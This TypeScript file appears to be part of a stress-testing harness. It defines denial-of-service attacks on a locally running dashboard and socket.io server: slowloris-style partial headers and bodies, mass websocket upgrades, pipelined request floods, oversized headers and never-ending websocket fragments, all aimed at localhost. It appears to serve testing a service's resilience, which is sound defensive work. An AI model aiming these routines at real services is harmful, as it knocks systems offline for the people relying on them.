/** Many connections, slow connections, and many requests on one connection. */
import { connect } from 'node:net'
import { holdOpen, untilAttackEnds, type Attack, type Target } from './attack.ts'

/** Connections one attack keeps open. */
const many = 3000
/** More than a port accepts. */
const tooMany = 11_000

const head = (host: string, path: string, further: string) =>
  `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n${further}`

const upgradeHead = (host: string, path: string) =>
  [
    `GET ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${Buffer.alloc(16).toString('base64')}`,
    '\r\n',
  ].join('\r\n')

const socketPath = '/socket.io/?EIO=4&transport='

/** Three entry points: the dashboard, the second listener, and local sites, which share the dashboard's port. */
const listeners = [
  { name: 'dashboard', host: 'localhost', path: '/api/method/login', port: undefined },
  { name: 'second listener', host: 'localhost', path: `${socketPath}polling`, port: 'socketPort' },
  { name: 'local sites', host: 'nothing.localhost', path: '/', port: undefined },
] as const

/** Addresses where connections are upgraded, and where upgrades are rejected. */
const upgrades = [
  { name: 'dashboard, refused', host: 'localhost', path: '/', port: undefined },
  { name: 'dashboard, sockets', host: 'localhost', path: `${socketPath}websocket`, port: undefined },
  { name: 'dashboard, sockets of another transport', host: 'localhost', path: `${socketPath}polling`, port: undefined },
  { name: 'second listener, refused', host: 'localhost', path: '/', port: 'socketPort' },
  { name: 'second listener, sockets', host: 'localhost', path: `${socketPath}websocket`, port: 'socketPort' },
  { name: 'local sites', host: 'nothing.localhost', path: '/', port: undefined },
] as const

const portOf = (target: Target, port: 'socketPort' | undefined) =>
  port === undefined ? target.port : target.socketPort

/** Sends the same bytes on one connection after another, as fast as possible. */
async function flood(target: Target, bytes: string, atOnce: number): Promise<void> {
  const one = () => {
    if (target.signal.aborted) return
    const socket = connect(target.port, '127.0.0.1', () => socket.write(bytes))
    socket.on('error', () => undefined)
    socket.resume()
    socket.once('close', () => setTimeout(one, 5))
    target.signal.addEventListener('abort', () => socket.destroy(), { once: true })
  }
  for (let at = 0; at < atOnce; at += 1) one()
  await untilAttackEnds(target)
}

/** Keeps sending after the first bytes, as fast as possible; closed connections are reopened. */
async function sendContinuously(target: Target, first: string | Buffer, then: Buffer): Promise<void> {
  const one = () => {
    if (target.signal.aborted) return
    const socket = connect(target.port, '127.0.0.1', () => {
      socket.write(first)
      socket.once('data', go)
      setTimeout(go, 100)
    })
    const go = () => {
      while (!socket.destroyed && socket.write(then));
    }
    socket.on('drain', go)
    socket.on('error', () => undefined)
    socket.resume()
    socket.once('close', () => setTimeout(one, 5))
    target.signal.addEventListener('abort', () => socket.destroy(), { once: true })
  }
  for (let count = 0; count < 8; count += 1) one()
  await untilAttackEnds(target)
}

const chunked = (host: string, path: string) =>
  `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n`
const pieces = Buffer.from('1\r\nx\r\n'.repeat(10_000))
const upgrade =
  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
/** Client frames: an empty socket packet, and an empty fragment of a message that never ends. */
const packet = Buffer.from([0x81, 0x81, 0, 0, 0, 0, 0x36])
const piece = Buffer.from([0x00, 0x80, 0, 0, 0, 0])
const unfinished = Buffer.concat([Buffer.from(upgrade), Buffer.from([0x01, 0x80, 0, 0, 0, 0])])
const repeat10k = (unit: Buffer) => Buffer.concat(Array.from({ length: 10_000 }, () => unit))

/** All connection attacks. */
export const connectionAttacks: readonly Attack[] = [
  ...listeners.flatMap(({ name, host, path, port }): Attack[] => [
    {
      name: `${many} silent connections, ${name}`,
      run: (target) => holdOpen(target, { count: many, port: portOf(target, port) }),
    },
    {
      name: `${many} half heads, ${name}`,
      run: (target) =>
        holdOpen(target, { count: many, port: portOf(target, port), begin: head(host, path, 'X-A: '), chunk: 'a' }),
    },
    {
      name: `${many} slow bodies, ${name}`,
      run: (target) =>
        holdOpen(target, {
          count: many,
          port: portOf(target, port),
          begin: head(host, path, 'Content-Length: 50000\r\n\r\n{"'),
          chunk: 'a',
        }),
    },
  ]),
  ...upgrades.map(({ name, host, path, port }): Attack => ({
    name: `${tooMany} upgrades, ${name}`,
    run: (target) =>
      holdOpen(target, {
        count: tooMany,
        port: portOf(target, port),
        begin: upgradeHead(host, path),
        isHalfOpen: true,
        // Each costs more than a silent connection.
        intervalMs: 50,
      }),
  })),
  {
    name: 'many requests at once on a connection',
    run: (target) => flood(target, 'GET /api/method/ping HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(1500), 8),
  },
  {
    name: 'many lines in a head',
    run: (target) => flood(target, `GET / HTTP/1.1\r\nHost: a\r\n${'a:\r\n'.repeat(7000)}\r\n`, 8),
  },
  {
    name: 'bodies in tiny pieces, dashboard',
    run: (target) => sendContinuously(target, chunked('localhost', '/web'), pieces),
  },
  {
    name: 'bodies in tiny pieces, local sites',
    run: (target) => sendContinuously(target, chunked('no.localhost', '/'), pieces),
  },
  { name: 'tiny messages over a websocket', run: (target) => sendContinuously(target, upgrade, repeat10k(packet)) },
  { name: 'empty pieces over a websocket', run: (target) => sendContinuously(target, unfinished, repeat10k(piece)) },
  {
    name: 'handshakes of sockets by strangers',
    run: (target) =>
      flood(
        target,
        'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n',
        32,
      ),
  },
]
